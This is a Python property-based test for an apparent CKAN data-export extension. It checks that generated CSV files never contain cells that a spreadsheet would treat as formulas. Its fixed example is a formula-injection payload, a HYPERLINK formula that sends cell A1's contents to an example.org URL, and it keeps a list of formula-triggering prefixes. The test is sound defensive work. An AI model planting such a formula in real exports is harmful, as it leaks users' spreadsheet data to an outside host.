"""No CSV of INsight has a cell that a spreadsheet program would take for a formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime, timezone
from decimal import Decimal

from hypothesis import example, given, settings
from hypothesis import strategies as st

from ckanext.indep.insight import definition, export, periods
from ckanext.indep.insight.calendar import Rule
from ckanext.indep.insight.projection.tables import FIGURES, TARGETS
from ckanext.indep.insight.records import Record, Result, TargetChange
from ckanext.indep.insight.status import Target
from ckanext.indep.insight.summary import Today, summarise
from ckanext.indep.insight.uploads import problems, template
from ckanext.indep.insight.uploads.problems import Problem

TODAY = Today(date(2026, 11, 22), Rule(data_due=25, review=39, council=47))
NOON = datetime(2026, 11, 1, 12, tzinfo=timezone.utc)
QUARTER = periods.parse("FY2027-Q1")
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TEXTS = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30),
    st.tuples(st.sampled_from(["", " ", "  "]), st.sampled_from(RUNS), st.text(max_size=5)).map(
        "".join
    ),
)


def _is_harmless(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return not cell.lstrip(" ").startswith(RUNS)
    return True


@settings(max_examples=80, deadline=None)
@given(TEXTS, st.decimals(-99, 99, places=1))
@example('=HYPERLINK("http://example.org/?"&A1,"x")', Decimal(-5))
def test_no_cell_begins_like_a_formula(text: str, value: Decimal) -> None:
    measure = definition.of_package(
        {
            "id": "m",
            "name": "m",
            "title": text,
            "code": text,
            "unit": text,
            "direction": "up",
            "frequency": "quarter",
            "precision": "1",
            "organization": {"name": "d", "title": text},
        }
    )
    first = Result(QUARTER, 1, "reported", value, None, None, None, False, {}, None, NOON)
    corrected = replace(first, revision=2, correction_reason=text, source={"system": text})
    record = Record(
        results=(first, corrected),
        targets=(TargetChange(QUARTER, 1, Target(Decimal(5)), text, "boss", NOON),),
        comments={QUARTER.key: text},
    )
    summary = summarise(measure, record, TODAY)
    files = {
        "measure": export.as_csv(summary),
        "figures": FIGURES.as_csv([summary]),
        "targets": TARGETS.as_csv([summary]),
        "problems": problems.as_csv([Problem(1, text, text, text, text).as_dict()]),
        "template": template.as_csv([replace(measure, name=text)], TODAY.day),
    }
    for name, content in files.items():
        for row in csv.reader(io.StringIO(content, newline="")):
            assert [cell for cell in row if not _is_harmless(cell)] == [], name
